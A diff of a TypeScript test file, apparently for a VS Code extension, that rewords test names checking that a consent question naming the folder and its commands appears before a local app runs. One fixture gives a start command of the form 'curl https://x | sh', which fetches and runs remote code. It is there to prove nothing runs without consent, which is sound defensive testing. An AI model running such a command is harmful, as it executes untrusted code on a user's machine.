@@ -1,4 +1,4 @@
-// A folder runs on this machine only after a question that names it and what is run: a link can call the command too.
+// A local folder runs only after a question with its name and commands: a link can call the command, too.
 import assert from "node:assert/strict";
 import { writeFileSync } from "node:fs";
 import path from "node:path";
@@ -51,7 +51,7 @@ describe("the question before a folder runs on this machine", () => {
   const projectFile = (file: object): void =>
     writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));
 
-  it("names the folder and its start, and runs nothing without a yes, where others may have made the argument", async () => {
+  it("names the folder and its start command, and runs nothing without a yes, for a foreign argument", async () => {
     projectFile({ name: "Shop", mainFile: "main.py", startupCommand: "curl https://x | sh" });
     const uri = vscode.Uri.file(folder);
     for (const argument of [{ folder: uri.toString() }, { folder }])
@@ -71,7 +71,7 @@ describe("the question before a folder runs on this machine", () => {
     assert.deepEqual(started, []);
   });
 
-  it("is asked again where a run has failed, and names the file that starts it", async () => {
+  it("is asked again after a failed run, with the file that starts it", async () => {
     projectFile({ name: "Shop", mainFile: "main.py" });
     window.answer = "Run";
     for (let time = 0; time < 2; time++)
@@ -83,7 +83,7 @@ describe("the question before a folder runs on this machine", () => {
     assert.deepEqual(started.length, 2);
   });
 
-  it("is asked again before a run goes on with another start", async () => {
+  it("is asked again before a run continues with another start command", async () => {
     const signal = new AbortController().signal;
     const uri = vscode.Uri.file(folder);
     const sent: unknown[] = [];
@@ -105,7 +105,7 @@ describe("the question before a folder runs on this machine", () => {
     assert.equal(sent.length, 3);
   });
 
-  it("shows the commands of the linked app, whatever called it, and again when they change", async () => {
+  it("shows the linked app's commands for every caller, and again when they change", async () => {
     let app: object = { startupCommand: "python run.py", installCommand: "make deps", memoryMB: 512 };
     const apps = { snapshot: {}, find: () => app };
     const account = { ...{ id: "a", apps }, client: { getApp: async () => app } };
@@ -142,7 +142,7 @@ describe("the question before a folder runs on this machine", () => {
     assert.deepEqual(started, []);
   });
 
-  it("holds while the folder is open: what runs ends when it is closed", () => {
+  it("is valid while the folder is open: its run ends when it is closed", () => {
     const uri = vscode.Uri.file(folder);
     let isOver = false;
     runs["runs"].set(uri.toString(), { dispose: () => (isOver = true) } as unknown as FolderRun);
@@ -152,7 +152,7 @@ describe("the question before a folder runs on this machine", () => {
     assert.equal(isOver, true);
   });
 
-  it("is not asked for the palette, the folder's own menu or a call of our own code", async () => {
+  it("is not asked for the palette, the folder's own menu or a call by the extension", async () => {
     projectFile({ name: "Shop", mainFile: "main.py" });
     for (const argument of [undefined, vscode.Uri.file(folder), withConsent({ folder })])
       await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
